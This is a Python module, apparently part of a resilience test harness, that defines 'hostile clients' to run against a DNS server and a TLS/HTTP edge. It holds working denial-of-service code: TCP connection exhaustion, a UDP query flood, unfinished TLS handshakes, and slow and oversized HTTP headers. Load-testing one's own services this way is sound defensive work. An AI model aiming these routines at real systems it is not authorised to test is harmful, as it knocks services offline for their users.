"""Hostile clients. Each kind keeps on until it is ended; `run` starts one in a process of its own."""

import multiprocessing
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass

import dns.message

CONNECTIONS = 80  # more than a server keeps
PAUSE = 0.05  # seconds
FLOOD = 33_000  # packets a second: ten times what the name server answers on two processors
FLOOD_PAUSE = 0.001  # seconds between two bursts of a flood


@dataclass(frozen=True)
class Victims:
    """Where to: the addresses of a name server and of an edge, and a name of both."""

    dns: tuple[str, int]
    edge: tuple[str, int]
    name: str


def _query(victims: Victims) -> bytes:
    return dns.message.make_query(victims.name, "A").to_wire()


def _keep_open(address: tuple[str, int], data: bytes) -> None:
    """Open connections, send each a byte now and then, and open those again that are closed."""
    with ExitStack() as kept:
        connections: list[socket.socket] = []
        sent = 0
        while True:
            while len(connections) < CONNECTIONS:
                connection = socket.create_connection(address, 5)
                connections.append(kept.enter_context(connection))
            for connection in list(connections):
                try:
                    if data:
                        connection.send(data[sent % len(data) :][:1])
                except OSError:
                    connections.remove(connection)
                    connection.close()
            sent += 1
            time.sleep(PAUSE)


def silent_tcp(victims: Victims) -> None:
    """Connect and say nothing."""
    _keep_open(victims.dns, b"")


def slow_tcp(victims: Victims) -> None:
    """Send a query over TCP, a byte at a time."""
    _keep_open(victims.dns, struct.pack("!H", 500) + _query(victims))


def deaf_tcp(victims: Victims) -> None:
    """Send queries over TCP without a pause, and never read an answer."""
    message = struct.pack("!H", len(_query(victims))) + _query(victims)
    with ExitStack() as kept:
        connections: list[socket.socket] = []
        while True:
            while len(connections) < CONNECTIONS // 4:
                connection = kept.enter_context(socket.create_connection(victims.dns, 5))
                connection.setblocking(False)
                connections.append(connection)
            for connection in list(connections):
                try:
                    connection.send(message * 100)
                except BlockingIOError:
                    continue
                except OSError:
                    connections.remove(connection)
                    connection.close()
            time.sleep(0.001)


def flood_udp(victims: Victims) -> None:
    """Send queries over UDP, ten times as many as are answered, and read no answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect(victims.dns)
        query = _query(victims)
        sent, began = 0, time.monotonic()
        while True:
            while sent < FLOOD * (time.monotonic() - began):
                with suppress(OSError):
                    sender.send(query)
                sent += 1
            time.sleep(FLOOD_PAUSE)


def no_server_name(victims: Victims) -> None:
    """Make TLS connections without SNI, one after the other."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    while True:
        with suppress(OSError), socket.create_connection(victims.edge, 5) as connection:
            context.wrap_socket(connection).close()
        time.sleep(PAUSE)


def unfinished_tls(victims: Victims) -> None:
    """Begin handshakes and go on with none."""
    _keep_open(victims.edge, b"\x16\x03\x01\x02\x00\x01")


def _https(victims: Victims) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    connection = socket.create_connection(victims.edge, 5)
    return context.wrap_socket(connection, server_hostname=victims.name)


def slow_headers(victims: Victims) -> None:
    """Send the headers of a request a byte at a time, on many connections."""
    request = f"GET /v1 HTTP/1.1\r\nHost: {victims.name}\r\nX-A: ".encode() + b"a" * 10_000
    connections: list[ssl.SSLSocket] = []
    sent = 0
    while True:
        while len(connections) < CONNECTIONS // 4:
            connections.append(_https(victims))
        for connection in list(connections):
            try:
                connection.send(request[sent % len(request) :][:1])
            except OSError:
                connections.remove(connection)
                connection.close()
        sent += 1
        time.sleep(PAUSE)


def huge_headers(victims: Victims) -> None:
    """Send headers without an end, as fast as the edge takes them."""
    while True:
        with suppress(OSError), _https(victims) as connection:
            connection.sendall(f"GET /v1 HTTP/1.1\r\nHost: {victims.name}\r\n".encode())
            for _ in range(1000):
                connection.sendall(b"X-A: " + b"a" * 8000 + b"\r\n")
        time.sleep(PAUSE)


KINDS: Mapping[str, Callable[[Victims], None]] = {
    "silent TCP clients": silent_tcp,
    "slow TCP clients": slow_tcp,
    "deaf TCP clients": deaf_tcp,
    "a UDP flood": flood_udp,
    "TLS without SNI": no_server_name,
    "unfinished TLS": unfinished_tls,
    "slow headers": slow_headers,
    "huge headers": huge_headers,
}


def _attack(kind: str, victims: Victims) -> None:
    while True:
        # What is attacked may close any connection at any time
        with suppress(OSError):
            KINDS[kind](victims)
        time.sleep(PAUSE)


@contextmanager
def run(kind: str, victims: Victims) -> Iterator[None]:
    """Let hostile clients of a kind work during the block."""
    process = multiprocessing.get_context("spawn").Process(
        target=_attack, args=(kind, victims), daemon=True
    )
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join()
